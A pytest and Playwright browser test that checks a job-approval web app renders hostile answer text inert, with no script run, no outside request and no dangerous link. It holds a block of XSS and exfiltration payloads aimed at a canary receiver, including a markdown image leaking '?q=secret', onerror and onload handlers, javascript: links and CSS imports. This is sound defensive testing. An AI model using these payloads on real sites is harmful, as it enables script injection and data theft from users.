"""In a real browser, hostile answers run nothing, load nothing and link nowhere (RULES A13; CASES S05, S06)."""

from typing import Any

import pytest
from playwright.sync_api import Page, Request

from base import ids
from jobs.models import Call
from jobs.rules.orders import End
from tests.builders import World, a_call, an_outcome, made, see, the_hold
from tests.servers.receivers import a_receiver

pytestmark = pytest.mark.browser


@pytest.mark.rule("A13")
def test_a_hostile_answer_asks_no_other_server_for_anything_and_is_shown_as_text(page: Page, world: World) -> None:
    with a_receiver() as canary:
        at = f"http://{canary.place}"
        hostile = "\n".join(
            [
                f"![]({at}/?q=secret) [x](javascript:document.title='run')",
                f"<img src={at}/img onerror=\"document.title='run'\"><svg onload=\"document.title='run'\">",
                f"<iframe srcdoc=\"<script src='{at}/frame'></script>\"></iframe><ScRiPt src={at}/script></sCrIpT>",
                f"<link rel=prefetch href={at}/prefetch><style>@import '{at}/css'</style>",
                f"&lt;script&gt;document.title='run'&lt;/script&gt; <a href=\"{at}/follow\">Approve</a> {at}/preview",
            ]
        )
        call = a_call(world, "look", {"q": hostile, "<img src=x>": 1})
        made(world, call, an_outcome(End.ANSWERED, text=hostile))
        held = a_call(world, "refund", {"why": hostile})
        asked: list[str] = []

        def note(request: Request) -> None:
            asked.append(request.url)

        page.on("request", note)
        row = see(world, Call, call)
        for path in (
            f"/calls/{ids.show(ids.CALL, call)}/",
            f"/jobs/{ids.show(ids.JOB, row.job_id)}/?call={ids.show(ids.CALL, call)}",
            f"/jobs/{ids.show(ids.JOB, see(world, Call, held).job_id)}/",
            "/approvals/",
        ):
            page.goto(path)
            page.wait_for_load_state("networkidle")
            assert "run" not in page.title().split()
            links: Any = page.eval_on_selector_all("a[href]", "all => all.map(one => one.href)")
            assert not [link for link in links if canary.place in link or link.startswith("javascript:")]
        page.goto(f"/approvals/{ids.show(ids.HOLD, the_hold(world, held).pk)}/")
        page.wait_for_load_state("networkidle")
        assert page.locator("main").inner_text().count("<img src=") >= 1, "it is shown, as text"
        own = page.url.split("/")[2]
        assert not [url for url in asked if own not in url and not url.startswith("data:")]
        assert canary.asked == []
